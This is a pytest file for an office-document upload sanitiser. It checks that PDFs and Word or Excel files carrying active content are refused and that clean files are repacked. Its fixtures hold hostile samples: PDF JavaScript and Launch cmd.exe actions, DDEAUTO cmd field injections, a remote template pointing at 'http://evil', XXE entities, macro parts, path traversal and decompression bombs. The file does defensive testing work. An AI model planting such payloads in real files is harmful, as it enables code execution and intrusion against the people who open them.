"""Documents of offices: what does nothing passes, packed anew; what would act, is locked or lies is refused."""

from __future__ import annotations

import io
import zipfile
import zlib
from collections.abc import Callable

import pytest
import typst
import xlsxwriter
from docx import Document
from python_calamine import CalamineWorkbook

from lianxin.attachments.actions import FileRefused, derive
from lianxin.attachments.testing import upload
from lianxin.attachments.words import Kind

PDF = b"%%PDF-1.7\n1 0 obj\n<</Type /Catalog%s>>\nendobj\ntrailer <</Root 1 0 R>>\n%%%%EOF\n"


def docx(
    *, more: dict[str, bytes] | None = None, instead: dict[str, Callable[[bytes], bytes]] | None = None
) -> bytes:
    plain = io.BytesIO()
    text = Document()
    text.add_paragraph("乡村道路管护情况报告")
    text.save(plain)
    out = io.BytesIO()
    with zipfile.ZipFile(plain) as given, zipfile.ZipFile(out, "w") as made:
        for part in given.infolist():
            change = (instead or {}).get(part.filename, lambda body: body)
            made.writestr(part.filename, change(given.read(part)))
        for name, body in (more or {}).items():
            made.writestr(name, body)
    return out.getvalue()


def xlsx() -> bytes:
    out = io.BytesIO()
    book = xlsxwriter.Workbook(out, {"in_memory": True})
    book.add_worksheet("台账").write_string(0, 0, "水井")
    book.close()
    return out.getvalue()


def refusal(kind: Kind, data: bytes) -> str:
    with pytest.raises(FileRefused) as caught:
        derive(kind, upload(data, f"x.{kind}"))
    return caught.value.code


def test_a_real_pdf_passes_and_nothing_before_or_behind_it() -> None:
    real = typst.compile("= 报告\n道路管护".encode())
    made = derive(Kind.PDF, upload(b"junk<script>" + real + b"\nPK\x03\x04 hidden archive", "x.pdf"))
    assert made.data.startswith(b"%PDF-")
    assert made.data.rstrip().endswith(b"%%EOF")
    assert b"hidden archive" not in made.data
    assert real.rstrip() == made.data.rstrip()


def test_a_text_and_a_workbook_come_out_packed_anew_and_open() -> None:
    text = derive(Kind.DOCX, upload(docx(), "x.docx"))
    assert [p.text for p in Document(io.BytesIO(text.data)).paragraphs] == ["乡村道路管护情况报告"]
    book = derive(Kind.XLSX, upload(xlsx(), "x.xlsx"))
    sheet = CalamineWorkbook.from_filelike(io.BytesIO(book.data)).get_sheet_by_index(0)
    assert sheet.to_python() == [["水井"]]


@pytest.mark.parametrize(
    "entry",
    [
        b" /OpenAction <</S /JavaScript /JS (app.alert\\(1\\))>>",
        b" /OpenAction <</S /Java#53cript>>",
        b" /AA <</O <</S /Launch /F (cmd.exe)>>>>",
        b" /Names <</EmbeddedFiles 2 0 R>>",
        b" /AcroForm <</XFA 3 0 R>>",
        b" /A <</S /SubmitForm>>",
        b" /A <</S /GoToR /F (other.pdf)>>",
    ],
)
def test_a_pdf_that_would_act_is_refused(entry: bytes) -> None:
    assert refusal(Kind.PDF, PDF % entry) == "acts"
    assert derive(Kind.PDF, upload(PDF % b"", "x.pdf")).data


@pytest.mark.parametrize("head", [b"/Type /ObjStm", b"/Type /Obj#53tm"])
def test_what_a_pdf_packs_into_streams_is_looked_through(head: bytes) -> None:
    packed = zlib.compress(b"5 0 <</S /JavaScript /JS (x)>>")
    stream = b"2 0 obj\n<<%s /Filter /FlateDecode>>\nstream\n%s\nendstream\nendobj\n" % (head, packed)
    assert refusal(Kind.PDF, b"%PDF-1.7\n" + stream + b"%%EOF") == "acts"
    bomb = zlib.compress(bytes(60_000_000))
    stream = b"2 0 obj\n<<%s /Filter /FlateDecode>>\nstream\n%s\nendstream\nendobj\n" % (head, bomb)
    assert refusal(Kind.PDF, b"%PDF-1.7\n" + stream + b"%%EOF") == "too_big_inside"


def test_a_locked_pdf_and_the_old_formats_are_refused() -> None:
    assert refusal(Kind.PDF, PDF % b" /Encrypt 9 0 R") == "old_or_locked"
    assert refusal(Kind.DOCX, b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512)) == "old_or_locked"


@pytest.mark.parametrize(
    ("kind", "data"),
    [
        (Kind.PDF, b"hello"),
        (Kind.DOCX, b"hello"),
        (Kind.DOCX, xlsx()),
        (Kind.XLSX, docx()),
        (Kind.PDF, xlsx()),
    ],
)
def test_a_file_that_is_not_what_its_name_says_is_refused(kind: Kind, data: bytes) -> None:
    assert refusal(kind, data) == "not_this_kind"


@pytest.mark.parametrize(
    "name",
    ["word/vbaProject.bin", "word/embeddings/oleObject1.bin", "word/activeX/activeX1.xml", "../outside.xml"],
)
def test_an_office_file_with_something_that_runs_or_is_carried_is_refused(name: str) -> None:
    assert refusal(Kind.DOCX, docx(more={name: b"<x/>"})) == "acts"


@pytest.mark.parametrize(
    ("part", "old", "new"),
    [
        (
            "word/_rels/document.xml.rels",
            b"</Relationships>",
            b'<Relationship Id="r9" Type="x/attachedTemplate" Target="http://evil" TargetMode="External"/></Relationships>',
        ),
        ("word/document.xml", b"</w:body>", b"<w:instrText> DDEAUTO c:\\\\cmd </w:instrText></w:body>"),
        ("word/document.xml", b"<w:document", b'<!DOCTYPE a [<!ENTITY b "c">]><w:document'),
        ("word/document.xml", b"</w:body>", b'<w:fldSimple w:instr=" DDEAUTO c:\\\\cmd "/></w:body>'),
        (
            "word/document.xml",
            b"</w:body>",
            b"<w:instrText> DD</w:instrText><w:instrText>EAUTO c:\\\\cmd</w:instrText></w:body>",
        ),
        ("word/document.xml", b"</w:body>", b"<w:instrText> &#68;DEAUTO c:\\\\cmd </w:instrText></w:body>"),
        (
            "word/_rels/document.xml.rels",
            b"</Relationships>",
            b'<Relationship Id="r9" Type="x/image" Target="http://evil" TargetMode="E&#120;tern&#x61;l"/></Relationships>',
        ),
        ("[Content_Types].xml", b"</Types>", b'<Default Extension="x" ContentType="macroEnabled"/></Types>'),
    ],
)
def test_an_office_file_that_reaches_outside_is_refused(part: str, old: bytes, new: bytes) -> None:
    assert refusal(Kind.DOCX, docx(instead={part: lambda body: body.replace(old, new, 1)})) == "acts"


@pytest.mark.parametrize("coding", ["utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-7"])
def test_what_acts_is_found_in_every_writing(coding: str) -> None:
    words = f'<?xml version="1.0" encoding="{coding}"?><!DOCTYPE a [<!ENTITY b "c">]><a/>'
    made = docx(instead={"word/document.xml": lambda body: words.encode(coding)})
    assert refusal(Kind.DOCX, made) == "acts"


def test_a_part_in_utf_16_and_an_ordinary_field_are_no_reason_to_refuse() -> None:
    note = '<?xml version="1.0" encoding="UTF-16"?><备注>道路</备注>'.encode("utf-16")
    field = b'<w:fldSimple w:instr=" PAGE "/><w:instrText> MERGEFIELD HIDDEN </w:instrText></w:body>'
    made = docx(
        more={"customXml/item9.xml": note},
        instead={"word/document.xml": lambda body: body.replace(b"</w:body>", field)},
    )
    assert derive(Kind.DOCX, upload(made, "x.docx")).data


def test_a_link_to_a_page_is_no_reason_to_refuse() -> None:
    link = (
        b'<Relationship Id="r99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" '
        b'Target="http://example.com" TargetMode="External"/></Relationships>'
    )
    part = "word/_rels/document.xml.rels"
    made = docx(instead={part: lambda body: body.replace(b"</Relationships>", link, 1)})
    assert derive(Kind.DOCX, upload(made, "x.docx")).data


def test_an_archive_that_grows_without_end_is_refused() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name in ("[Content_Types].xml", "xl/workbook.xml"):
            made.writestr(name, "<x/>")
        made.writestr("xl/bomb.xml", bytes(130_000_000))
    assert refusal(Kind.XLSX, out.getvalue()) == "too_big_inside"
